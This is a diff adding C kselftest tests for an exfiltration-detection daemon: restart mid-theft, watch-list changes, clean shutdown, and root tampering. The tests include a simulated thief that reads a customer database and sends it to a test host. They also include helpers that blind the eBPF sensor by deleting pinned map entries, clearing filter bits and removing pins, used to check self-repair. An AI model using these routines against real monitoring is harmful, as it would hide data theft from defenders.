@@ -19,7 +19,10 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
+#include <bpf/bpf.h>
+#include <bpf/btf.h>
 #include "kselftest_harness.h"
+#include "exfilmon_abi.h"
 #include "customers.h"
 #include "daemon_run.h"
 #include "testhost.h"
@@ -644,6 +647,388 @@ TEST_F(valgrind, a_theft_is_alerted_with_no_memory_error_or_leak)
 	if (!_metadata->passed)
 		TH_LOG("valgrind's report:\n%s", report);
 	free(report);
+}
+
+/*
+ * exfilmond killed in the middle of a theft and started again, as systemd
+ * would (docs/design.md "Restarts"): the sensor kept counting in the
+ * meantime, in pinned maps or the module's tables, and the new daemon
+ * takes that state over. The theft's one alert ends with every byte.
+ */
+FIXTURE(restart) {
+	struct world e;
+};
+
+FIXTURE_SETUP(restart)
+{
+	int ret = world_up(_metadata, &self->e, 9, "10.0.0.0/8", "");
+
+	if (ret != 1)
+		ASSERT_EQ(0, ret);
+}
+
+FIXTURE_TEARDOWN(restart)
+{
+	world_down(&self->e);
+}
+
+/* A byte through a pipe: one side's go-ahead to the other. */
+static int step(int fd)
+{
+	return write(fd, "", 1) == 1 ? 0 : -1;
+}
+
+static int await_step(int fd)
+{
+	char c;
+
+	return read(fd, &c, 1) == 1 ? 0 : -1;
+}
+
+/*
+ * Read all of the database, send first bytes of it, report, wait for the
+ * go-ahead, send the rest and exit.
+ */
+static pid_t thief_in_two_parts(const struct world *e, long first,
+				int ready[2], int go[2])
+{
+	pid_t pid = fork();
+
+	if (!pid) {
+		struct sockaddr_in sin = { .sin_family = AF_INET,
+					   .sin_port = htons(THEFT_PORT) };
+		char *buf = malloc(e->size);
+		long got = 0, sent = 0;
+		int fd = open(e->db, O_RDONLY);
+
+		if (!buf || fd < 0)
+			_exit(1);
+		while (got < e->size) {
+			ssize_t n = read(fd, buf + got, e->size - got);
+
+			if (n <= 0)
+				_exit(2);
+			got += n;
+		}
+		close(fd);
+		inet_pton(AF_INET, e->th.remote4, &sin.sin_addr);
+		fd = socket(AF_INET, SOCK_STREAM, 0);
+		if (connect(fd, (void *)&sin, sizeof(sin)))
+			_exit(3);
+		while (sent < e->size) {
+			ssize_t n;
+
+			if (sent == first && (step(ready[1]) ||
+					      await_step(go[0])))
+				_exit(5);
+			n = write(fd, buf + sent, (sent < first ? first :
+						   e->size) - sent);
+			if (n <= 0)
+				_exit(4);
+			sent += n;
+		}
+		close(fd);
+		_exit(0);
+	}
+	return pid;
+}
+
+static int log_has(const struct world *e, const char *text)
+{
+	char *buf = calloc(1, 1 << 20);
+	FILE *f = fopen(e->log, "r");
+	int found = 0;
+	size_t n;
+
+	if (buf && f) {
+		n = fread(buf, 1, (1 << 20) - 1, f);
+		buf[n] = '\0';
+		found = !!strstr(buf, text);
+	}
+	if (f)
+		fclose(f);
+	free(buf);
+	return found;
+}
+
+TEST_F(restart, a_daemon_killed_mid_theft_resumes_with_every_byte)
+{
+	struct world *e = &self->e;
+	int ready[2], go[2], status;
+	struct json_object *arr, *a;
+	const char *pins;
+	struct sink sink;
+	pid_t pid;
+
+	if (_metadata->skip)
+		return;	/* skipped in the setup */
+
+	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
+				&sink));
+	ASSERT_EQ(0, pipe(ready));
+	ASSERT_EQ(0, pipe(go));
+	pid = thief_in_two_parts(e, 1 << 20, ready, go);
+	ASSERT_LT(0, pid);
+	ASSERT_EQ(0, await_step(ready[0]));
+	/* the first daemon raises the alert on the first MiB */
+	arr = wait_alert(e, 1 << 20);
+	ASSERT_NE(NULL, arr);
+	json_object_put(arr);
+
+	pins = daemon_pin_dir(e->daemon);
+	ASSERT_NE(NULL, pins);
+	ASSERT_EQ(0, kill(e->daemon, SIGKILL));
+	ASSERT_EQ(e->daemon, waitpid(e->daemon, NULL, 0));
+	if (!strcmp(sensor_under_test(), "bpf"))
+		EXPECT_EQ(0, access(pins, F_OK));
+	/* the rest goes out, and the thief is gone, while no daemon runs */
+	ASSERT_EQ(0, step(go[1]));
+	ASSERT_EQ(pid, waitpid(pid, &status, 0));
+	ASSERT_EQ(0, status);
+	ASSERT_EQ(e->size, sink_wait(&sink));
+
+	e->daemon = daemon_start(e->conf, e->sock, e->log);
+	ASSERT_LT(0, e->daemon);
+	arr = wait_alert(e, e->size);
+	ASSERT_NE(NULL, arr);
+	EXPECT_TRUE(log_has(e, "resuming from the sensor's state"));
+	/* one theft, one alert: the one raised before the kill, completed */
+	EXPECT_EQ(1, json_object_array_length(arr));
+	a = json_object_array_get_idx(arr, 0);
+	EXPECT_EQ(1, num(a, "id"));
+	EXPECT_EQ(pid, num(a, "pid"));
+	EXPECT_EQ(e->size, num(a, "bytes_read"));
+	EXPECT_EQ(e->size, num(a, "bytes_sent"));
+	EXPECT_EQ(e->size, num(idx(a, "files", 0), "bytes_read"));
+	EXPECT_EQ(e->size, num(idx(a, "destinations", 0), "bytes_sent"));
+	json_object_put(arr);
+	if (!_metadata->passed)
+		run("cat %s >&2", e->log);
+}
+
+TEST_F(restart, a_changed_watch_list_starts_from_empty_tables)
+{
+	struct world *e = &self->e;
+	char conf[1024], other[160];
+	struct json_object *arr;
+	struct sink sink;
+
+	if (_metadata->skip)
+		return;	/* skipped in the setup */
+
+	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
+				&sink));
+	ASSERT_LT(0, actor(e, e->size, 1 << 20, e->th.remote4));
+	ASSERT_EQ(1 << 20, sink_wait(&sink));
+	arr = wait_alert(e, 1 << 20);
+	ASSERT_NE(NULL, arr);
+	json_object_put(arr);
+	ASSERT_EQ(0, kill(e->daemon, SIGKILL));
+	ASSERT_EQ(e->daemon, waitpid(e->daemon, NULL, 0));
+
+	/* another file takes watch id 1: the old counters would lie */
+	snprintf(other, sizeof(other), "%s/other.csv", e->dir);
+	ASSERT_LT(0, customers_write(other, 4096));
+	snprintf(conf, sizeof(conf),
+		 "[watch]\npath = %s\n\n"
+		 "[correlation]\nread_threshold = 1M\nsend_threshold = 256K\n"
+		 "window = 1h\n\n"
+		 "[network]\ninternal = 10.0.0.0/8\n\n"
+		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
+		 "group = exfilmon-test-nonexistent\n", other, e->dir,
+		 e->sock);
+	ASSERT_EQ(0, write_file(e->conf, conf));
+	e->daemon = daemon_start(e->conf, e->sock, e->log);
+	ASSERT_LT(0, e->daemon);
+	EXPECT_TRUE(log_has(e, "not resuming from the sensor's state: a "
+			    "watched path of the last daemon is not watched"));
+	/* nothing the old tables held comes back as a second alert */
+	EXPECT_EQ(1, settled_alert_count(e));
+}
+
+TEST_F(restart, an_orderly_stop_leaves_nothing_pinned)
+{
+	struct world *e = &self->e;
+	char pins[64];
+	int status;
+
+	if (_metadata->skip)
+		return;	/* skipped in the setup */
+	if (strcmp(sensor_under_test(), "bpf"))
+		SKIP(return, "pins are the eBPF sensor's");
+	snprintf(pins, sizeof(pins), "%s", daemon_pin_dir(e->daemon));
+	ASSERT_EQ(0, access(pins, F_OK));
+	ASSERT_EQ(0, kill(e->daemon, SIGTERM));
+	ASSERT_EQ(e->daemon, waitpid(e->daemon, &status, 0));
+	EXPECT_EQ(0, status);
+	EXPECT_EQ(-1, access(pins, F_OK));
+	EXPECT_EQ(ENOENT, errno);
+	/* after the check: this would remove what the daemon left */
+	daemon_unpin(e->daemon);
+	e->daemon = -1;
+}
+
+/*
+ * Root-level tampering the daemon's self-check must find and mend within
+ * a few seconds (docs/design.md "Self-check"): the configured watch entry
+ * deleted from the sensor's table, its bit cleared in the hot-path filter,
+ * and a pin removed. A theft after that is still alerted to the byte.
+ */
+FIXTURE(selfcheck) {
+	struct world e;
+};
+
+FIXTURE_SETUP(selfcheck)
+{
+	int ret;
+
+	if (strcmp(sensor_under_test(), "bpf"))
+		SKIP(return, "the module's tables and hooks change only "
+		     "through its device, which admits one opener: the "
+		     "daemon");
+	ret = world_up(_metadata, &self->e, 10, "10.0.0.0/8", "");
+	if (ret != 1)
+		ASSERT_EQ(0, ret);
+}
+
+FIXTURE_TEARDOWN(selfcheck)
+{
+	world_down(&self->e);
+}
+
+/* Delete every configured entry of the pinned watched table; how many. */
+static int delete_watch_entries(const char *pins)
+{
+	struct exfilmon_file_key key, next, *prev = NULL;
+	struct exfilmon_file_key doomed[16];
+	struct exfilmon_obj o;
+	char path[128];
+	int fd, n = 0, i;
+
+	snprintf(path, sizeof(path), "%s/watched", pins);
+	fd = bpf_obj_get(path);
+	if (fd < 0)
+		return -1;
+	while (!bpf_map_get_next_key(fd, prev, &next) && n < 16) {
+		key = next;
+		prev = &key;
+		if (bpf_map_lookup_elem(fd, &key, &o))
+			continue;
+		if ((o.flags & EXFILMON_WATCH_FILE) &&
+		    !(o.flags & (EXFILMON_WATCH_VIA_DIR |
+				 EXFILMON_OBJ_DERIVED | EXFILMON_OBJ_OPAQUE)))
+			doomed[n++] = key;
+	}
+	for (i = 0; i < n; i++)
+		bpf_map_delete_elem(fd, &doomed[i]);
+	close(fd);
+	return n;
+}
+
+/*
+ * Clear the filter bit of ino in the pinned .bss, found through the map's
+ * BTF: the datasec's variable watch_filter.
+ */
+static int clear_filter_bit(const char *pins, uint64_t ino)
+{
+	struct bpf_map_info info = { 0 };
+	__u32 len = sizeof(info), slot = exfilmon_watch_slot(ino);
+	const struct btf_var_secinfo *vs;
+	const struct btf_type *sec;
+	struct btf *btf = NULL;
+	long off = -1;
+	char path[128], *val = NULL;
+	int fd, i, ret = -1;
+
+	snprintf(path, sizeof(path), "%s/exfilmon_bss", pins);
+	fd = bpf_obj_get(path);
+	if (fd < 0 || bpf_obj_get_info_by_fd(fd, &info, &len))
+		goto out;
+	btf = btf__load_from_kernel_by_id(info.btf_id);
+	sec = btf ? btf__type_by_id(btf, info.btf_value_type_id) : NULL;
+	if (!sec || !btf_is_datasec(sec))
+		goto out;
+	vs = btf_var_secinfos(sec);
+	for (i = 0; i < btf_vlen(sec); i++, vs++) {
+		const struct btf_type *v = btf__type_by_id(btf, vs->type);
+
+		if (!strcmp(btf__name_by_offset(btf, v->name_off),
+			    "watch_filter"))
+			off = vs->offset;
+	}
+	val = malloc(info.value_size);
+	if (off < 0 || !val || bpf_map_lookup_elem(fd, &(__u32){ 0 }, val))
+		goto out;
+	((uint64_t *)(val + off))[slot / 64] &= ~(1ULL << (slot % 64));
+	ret = bpf_map_update_elem(fd, &(__u32){ 0 }, val, BPF_ANY);
+out:
+	free(val);
+	btf__free(btf);
+	if (fd >= 0)
+		close(fd);
+	return ret;
+}
+
+/* Poll exfilctl status until tamper.events > 0, up to 12 s (two checks). */
+static struct json_object *wait_tamper(const struct world *e)
+{
+	static const char *const status_args[] = { "status", NULL };
+	int i;
+
+	for (i = 0; i < 60; i++) {
+		struct json_object *st = ctl_json(e->sock, status_args), *t;
+
+		if (st && json_object_object_get_ex(st, "tamper", &t) &&
+		    num(t, "events") > 0)
+			return st;
+		json_object_put(st);
+		usleep(200000);
+	}
+	return NULL;
+}
+
+TEST_F(selfcheck, tampering_by_root_is_found_mended_and_raised)
+{
+	struct world *e = &self->e;
+	struct json_object *st, *t, *arr, *a;
+	const char *pins;
+	char path[128];
+	struct sink sink;
+	struct stat sb;
+
+	if (_metadata->skip)
+		return;	/* skipped in the setup */
+	pins = daemon_pin_dir(e->daemon);
+	ASSERT_NE(NULL, pins);
+	ASSERT_EQ(0, stat(e->db, &sb));
+	ASSERT_EQ(1, delete_watch_entries(pins));
+	ASSERT_EQ(0, clear_filter_bit(pins, sb.st_ino));
+	snprintf(path, sizeof(path), "%s/sends", pins);
+	ASSERT_EQ(0, unlink(path));
+
+	st = wait_tamper(e);
+	ASSERT_NE(NULL, st);
+	ASSERT_TRUE(json_object_object_get_ex(st, "tamper", &t));
+	TH_LOG("tamper: %s", str(t, "last"));
+	EXPECT_NE(NULL, strstr(str(t, "last"), "the watch entry of"));
+	EXPECT_NE(NULL, strstr(str(t, "last"), "filter bit of watched inode"));
+	EXPECT_NE(NULL, strstr(str(t, "last"), "/sends was removed"));
+	EXPECT_LE(3, num(t, "mended"));
+	json_object_put(st);
+	EXPECT_TRUE(log_has(e, "tamper: "));
+	EXPECT_EQ(0, access(path, F_OK));
+
+	/* mended: the next theft counts in full */
+	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, THEFT_PORT,
+				&sink));
+	ASSERT_LT(0, actor(e, e->size, e->size, e->th.remote4));
+	ASSERT_EQ(e->size, sink_wait(&sink));
+	arr = wait_alert(e, e->size);
+	ASSERT_NE(NULL, arr);
+	a = json_object_array_get_idx(arr, 0);
+	EXPECT_EQ(e->size, num(a, "bytes_read"));
+	EXPECT_EQ(e->size, num(a, "bytes_sent"));
+	json_object_put(arr);
 }
 
 TEST_HARNESS_MAIN
